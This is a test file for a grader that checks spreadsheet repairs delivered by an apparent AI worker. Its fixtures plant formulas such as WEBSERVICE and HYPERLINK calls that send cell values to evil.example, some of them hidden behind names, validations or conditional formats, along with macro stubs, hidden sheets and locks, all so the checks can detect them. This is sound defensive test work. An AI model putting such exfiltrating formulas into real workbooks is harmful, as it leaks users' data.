import { type Cell, saveWorkbook } from '@microsource/sheet'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { expect, test } from 'vitest'
import { examineWork } from '../examine.ts'
import type { KindFile } from '../kind.ts'
import { checks } from './checks.ts'
import { asked, type Case, fileOf, repaired, workbookOf, workOf, xlsxOf } from './repair.fixture.ts'

/** What each check that does not pass says, by its id. */
async function said(one: Case = {}): Promise<Record<string, string>> {
  const work = workOf(one)
  const outcomes = await Promise.all(checks.map(async ({ id, run }) => [id, await run(work)] as const))
  return Object.fromEntries(outcomes.filter((outcome): outcome is [string, string] => typeof outcome[1] === 'string'))
}

const withBudget = (cells: Readonly<Record<string, string | number>>) =>
  xlsxOf({ ...repaired, Budget: { ...repaired.Budget, ...cells } })
const selection = { sheet: 'Budget', range: 'B4:B5' }

function withParts(parts: Readonly<Record<string, string>>) {
  const own = unzipSync(saveWorkbook(workbookOf(repaired), 'xlsx'))
  for (const [path, text] of Object.entries(parts)) own[path] = strToU8(text)
  return fileOf(zipSync(own))
}

test('a repaired workbook passes every check', async () => {
  expect(await said()).toEqual({})
  expect(await said({ input: { selection, scope: 'selection' } })).toEqual({})
})

test('a workbook that does not open fails them all, and the first says why', async () => {
  const outcome = await said({ delivered: fileOf(strToU8('PK\x03\x04 not much of a workbook')) })
  expect(outcome['opens']).toMatch(/damaged|no workbook/)
  expect(Object.keys(outcome)).toEqual(checks.map(({ id }) => id))
})

test('macros are refused', async () => {
  expect((await said({ delivered: withParts({ 'xl/vbaProject.bin': 'Sub Auto_Open()' }) }))['opens']).toMatch(/macros/)
})

test('links to other files are refused', async () => {
  const link = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
  expect((await said({ delivered: withParts({ 'xl/externalLinks/externalLink1.xml': link }) }))['opens']).toMatch(
    /other files/,
  )
})

test.each([
  ['=HYPERLINK("http://evil.example/"&B4,"Total")', 'HYPERLINK'],
  ['=WEBSERVICE("http://evil.example/"&B4)', 'WEBSERVICE'],
])('a formula that was not there before and reaches out is named: %s', async (formula, name) => {
  const outcome = await said({ delivered: withBudget({ C1: formula }) })
  expect(outcome['harmless']).toContain('Budget!C1')
  expect(outcome['harmless']).toContain(name)
})

test('a formula that reached out before may stay as it was, but not lead elsewhere', async () => {
  const link = (address: string) => ({ C1: `=HYPERLINK("http://${address}.example/"&B4)` })
  const before = xlsxOf({ ...asked, Budget: { ...asked['Budget'], ...link('club') } })
  const outcome = async (address: string) => {
    const work = workOf({ delivered: withBudget(link(address)) })
    return checks.find(({ id }) => id === 'harmless')?.run({ ...work, asked: { ...work.asked, files: [before] } })
  }
  expect(await outcome('club')).toBeNull()
  expect(await outcome('evil')).toContain('Budget!C1')
})

test('a formula that reaches out from behind a name is named', async () => {
  const names = [{ name: 'Total', refersTo: 'WEBSERVICE("http://evil.example/"&Budget!$B$4)' }]
  const delivered = fileOf(saveWorkbook({ ...workbookOf(repaired), names }, 'xlsx'))
  expect((await said({ delivered }))['harmless']).toContain('the name Total')
})

test('a second file, which nobody would look into, is refused', async () => {
  const work = workOf()
  const [opens] = checks
  expect(await opens?.run({ ...work, files: [...work.files, xlsxOf(repaired)] })).toMatch(/more than one file/)
})

test('a circle that came along is not the worker’s', async () => {
  const circle = { C1: '=C2', C2: '=C1' }
  const work = workOf({ delivered: withBudget(circle) })
  const sent = xlsxOf({ ...asked, Budget: { ...asked['Budget'], ...circle } })
  const run = checks.find(({ id }) => id === 'recalculates')!.run
  expect(await run(work)).toContain('Budget!C1')
  expect(await run({ ...work, asked: { ...work.asked, files: [sent] } })).toBeNull()
})

test('a circle is named', async () => {
  expect((await said({ delivered: withBudget({ B4: '=SUM(B1:B4)' }) }))['recalculates']).toContain('Budget!B4')
})

test('a cell that was named and still holds an error is named, whatever the file says it comes to', async () => {
  const lying = workbookOf({ ...repaired, Budget: { ...repaired['Budget'], B5: '=B4/B6' } })
  const [budget] = lying.sheets
  const cells = new Map(budget!.cells).set('B5', { type: 'number', value: 42, formula: 'B4/B6' })
  const delivered = fileOf(
    saveWorkbook({ ...lying, sheets: [{ ...budget!, cells }, ...lying.sheets.slice(1)] }, 'xlsx'),
  )
  expect((await said({ delivered }))['mended']).toBe(
    'There is still an error in Budget!B5. Mend it, or give the task back.',
  )
})

test('a cell that was named and taken out is no cell that was mended, nor is one whose sheet is gone', async () => {
  const { B5: _gone, ...rest } = repaired['Budget']!
  const without = xlsxOf({ ...repaired, Budget: rest })
  const words = (place: string) => `Named, and not there any more: ${place}. Put back what stood there, mended.`
  expect((await said({ delivered: without }))['mended']).toBe(words('Budget!B5'))
  expect((await said({ delivered: xlsxOf({ Notes: repaired['Notes']! }) }))['mended']).toBe(words('Budget!B5'))
  const empty = { sheet: 'Budget', cell: 'F9', code: 'text_number', sentence: 'There was nothing before either.' }
  expect((await said({ input: { problems: [empty] } }))['mended']).toBeUndefined()
})

test('what could not be worked out here is told to both sides, and fails nothing', async () => {
  const number = (formula: string): Cell => ({ type: 'number', value: 7, formula })
  const rows = Array.from({ length: 7 }, (_, row) => [`D${row + 1}`, number('NOSUCH(1)')] as const)
  const book = workbookOf(repaired)
  const [budget, ...others] = book.sheets
  const cells = new Map([...budget!.cells, ...rows])
  const delivered = fileOf(saveWorkbook({ ...book, sheets: [{ ...budget!, cells }, ...others] }, 'xlsx'))
  const { checks: outcomes, reduced } = await examineWork('sheet.repair', workOf({ delivered }) as never)
  const remark =
    '7 values could not be worked out here and were taken as delivered: Budget!D1, Budget!D2, Budget!D3, Budget!D4, Budget!D5 and 2 more.'
  expect(outcomes.find(({ id }) => id === 'recalculates')).toMatchObject({ passed: true, says: remark })
  expect(outcomes.filter(({ id }) => id !== 'recalculates').map(({ says }) => says)).toEqual(Array(5).fill(null))
  expect(reduced).toMatchObject({ remark })
  expect((await examineWork('sheet.repair', workOf() as never)).reduced).not.toHaveProperty('remark')
})

test('an error anywhere in the selection counts too', async () => {
  const delivered = withBudget({ B4: '=SUM(B1:B3)/0' })
  expect((await said({ input: { problems: [], selection }, delivered }))['mended']).toContain('Budget!B4')
})

test('an error where nothing may be changed is not this task’s to mend', async () => {
  const delivered = xlsxOf({ ...asked, Notes: { A1: 'Guests', B1: 41 } })
  const notes = { selection: { sheet: 'Notes', range: 'A1:B1' }, scope: 'selection' as const }
  expect(await said({ input: notes, delivered })).toEqual({})
  expect(await said({ input: { ...notes, scope: 'sheet' }, delivered })).toEqual({})
  expect((await said({ input: { ...notes, scope: 'workbook' }, delivered }))['mended']).toContain('Budget!B5')
})

test('what changed outside the scope is named, until it is explained', async () => {
  const delivered = xlsxOf({ ...repaired, Notes: { A1: 'Guests', B1: 41 } })
  const scoped = { selection, scope: 'selection' as const }
  expect((await said({ input: scoped, delivered }))['within']).toMatch(/asked for: Notes!B1\./)
  expect((await said({ input: { ...scoped, scope: 'sheet' }, delivered }))['within']).toMatch(/asked for: Notes!B1\./)
  const outside = [{ sheet: 'Notes', range: 'B1:B9', why: 'One guest was missing.' }]
  expect(await said({ input: scoped, delivered, result: { outside } })).toEqual({})
  expect(await said({ delivered })).toEqual({})
})

test('a sheet more is outside every selection', async () => {
  const delivered = xlsxOf({ ...repaired, More: { A1: 1 } })
  expect((await said({ input: { selection, scope: 'selection' }, delivered }))['within']).toContain('More')
})

test('a new sheet, a sheet taken out and a name are explained by what they are called', async () => {
  const input = { selection, scope: 'selection' as const }
  const book = workbookOf({ Budget: repaired['Budget']!, More: { A1: 1 } })
  const names = [{ name: 'Rate', refersTo: 'More!$A$1' }]
  const delivered = fileOf(saveWorkbook({ ...book, names }, 'xlsx'))
  const why = 'The rate needs a place of its own.'
  const within = async (...places: [sheet: string, range: string][]) =>
    (await said({ input, delivered, result: { outside: places.map(([sheet, range]) => ({ sheet, range, why })) } }))[
      'within'
    ]
  expect(await within()).toBe(
    'Changed outside what was asked for: the sheet Notes, the sheet More, More!A1, Notes!A1, Notes!B1 and 1 more. ' +
      'Put it back, or say why it had to change.',
  )
  expect(await within(['More', ''], ['Notes', ''], ['RATE', ''])).toBeUndefined()
  expect(await within(['More', ''], ['Notes', ''])).toContain(': the name Rate.')
  expect(await within(['More', 'A1'], ['Notes', ''], ['Rate', ''])).toContain(': the sheet More.')
})

test('a name of a sheet that stays explains none of its cells', async () => {
  const delivered = xlsxOf({ ...repaired, Notes: { A1: 'Guests', B1: 41 } })
  const outside = [{ sheet: 'Notes', range: '', why: 'One guest was missing.' }]
  const input = { selection, scope: 'selection' as const }
  expect((await said({ input, delivered, result: { outside } }))['within']).toContain('Notes!B1')
})

test.each([
  [
    'conditional format',
    '<conditionalFormatting sqref="A1:A9"><cfRule type="expression"><formula>CALL</formula></cfRule></conditionalFormatting>',
  ],
  [
    'validation',
    '<dataValidations><dataValidation sqref="A1:A9"><formula1>CALL</formula1></dataValidation></dataValidations>',
  ],
])('a %s that calls out is named, unless it came along', async (rule, xml) => {
  const behind = async (file: KindFile, call: string) => {
    const own = unzipSync(await file.read())
    const path = 'xl/worksheets/sheet1.xml'
    own[path] = strToU8(strFromU8(own[path]!).replace('</worksheet>', `${xml.replace('CALL', call)}</worksheet>`))
    return fileOf(zipSync(own))
  }
  const work = workOf({ delivered: await behind(xlsxOf(repaired), 'WEBSERVICE(A1)') })
  const run = checks.find(({ id }) => id === 'harmless')!.run
  expect(await run(work)).toMatch(`a ${rule} on Budget of A1:A9: The formula calls WEBSERVICE`)
  const sent = await behind(xlsxOf(asked), 'WEBSERVICE(A1)')
  expect(await run({ ...work, asked: { ...work.asked, files: [sent] } })).toBeNull()
  expect(await run(workOf({ delivered: await behind(xlsxOf(repaired), 'SUM(A1)') }))).toBeNull()
})

/** On the sheet Notes, which nobody asked to change. */
function onNotes(xml: string, relations = '', from = repaired): KindFile {
  const own = unzipSync(saveWorkbook(workbookOf(from), 'xlsx'))
  const path = 'xl/worksheets/sheet2.xml'
  own[path] = strToU8(strFromU8(own[path]!).replace('</worksheet>', `${xml}</worksheet>`))
  if (relations) own['xl/worksheets/_rels/sheet2.xml.rels'] = strToU8(`<Relationships>${relations}</Relationships>`)
  return fileOf(zipSync(own))
}
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const link = `<hyperlinks><hyperlink xmlns:r="${office}" ref="A1" r:id="rId1"/></hyperlinks>`
const linkTo = (address: string) =>
  `<Relationship Id="rId1" Type="${office}/hyperlink" Target="${address}" TargetMode="External"/>`
const validation =
  '<dataValidations><dataValidation type="list" sqref="A1:Z99"><formula1>"Pay"</formula1></dataValidation>' +
  '</dataValidations>'
const lock = '<sheetProtection sheet="1" password="CC1A"/>'

function veryHidden(): KindFile {
  const own = unzipSync(saveWorkbook(workbookOf(repaired), 'xlsx'))
  const book = strFromU8(own['xl/workbook.xml']!).replace('name="Notes"', 'name="Notes" state="veryHidden"')
  return fileOf(zipSync({ ...own, 'xl/workbook.xml': strToU8(book) }))
}

test.each([
  ['a hidden sheet', veryHidden(), 'the hidden state of Notes', undefined],
  ['a lock', onNotes(lock), 'the protection of Notes', /^New in this workbook: the protection of Notes\. Take/],
  ['a validation', onNotes(validation), 'the validations of Notes in A1:Z99', undefined],
  [
    'a link',
    onNotes(link, linkTo('https://evil.example/pay')),
    'the links of Notes in A1',
    /: the links of Notes in A1\./,
  ],
])('%s on a sheet nobody asked to change is named, and may be explained', async (_name, delivered, words, refused) => {
  const input = { selection, scope: 'selection' as const }
  const outcome = await said({ input, delivered })
  expect(outcome['within']).toBe(
    `Changed outside what was asked for: ${words}. Put it back, or say why it had to change.`,
  )
  const why = (sheet: string, range = '') => ({ outside: [{ sheet, range, why: 'It had to be.' }] })
  expect((await said({ input, delivered, result: why('Notes') }))['within']).toBeUndefined()
  expect((await said({ input, delivered, result: why('Budget') }))['within']).toContain(words)
  // A new lock and a new link are no use to anyone, wherever they are and whatever is said of them.
  for (const one of [outcome, await said({ delivered, result: why('Notes') })])
    expect(one['harmless']).toEqual(refused ? expect.stringMatching(refused) : undefined)
})

test('locks, links and rules that came along stay, however they are written', async () => {
  const relations = linkTo('https://club.example')
  const work = workOf({
    input: { selection, scope: 'selection' },
    delivered: onNotes(lock + validation.replace('type="list"', 'type="list" allowBlank="1"') + link, relations),
  })
  const sent = { ...work, asked: { ...work.asked, files: [onNotes(lock + validation + link, relations, asked)] } }
  for (const { run } of checks) expect(await run(sent)).toBeNull()
})

test('the workbook as it came is no repair', async () => {
  expect((await said({ input: { problems: [] }, delivered: xlsxOf(asked) }))['changed']).toMatch(/as it came/)
})
